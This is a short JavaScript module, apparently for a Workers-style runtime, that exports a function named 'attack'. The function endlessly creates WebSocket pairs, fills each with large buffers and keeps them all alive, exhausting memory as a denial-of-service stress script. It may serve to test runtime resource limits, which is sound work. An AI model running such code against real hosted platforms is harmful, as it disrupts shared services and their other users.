export default async function attack() {
  const all = [];
  for (;;) {
    const [a, b] = Object.values(new WebSocketPair());
    a.accept();
    b.accept();
    for (let i = 0; i < 100; i++) a.send(new Uint8Array(10000));
    all.push(a, b);
    if (all.length % 100 === 0) await scheduler.wait(0);
  }
}
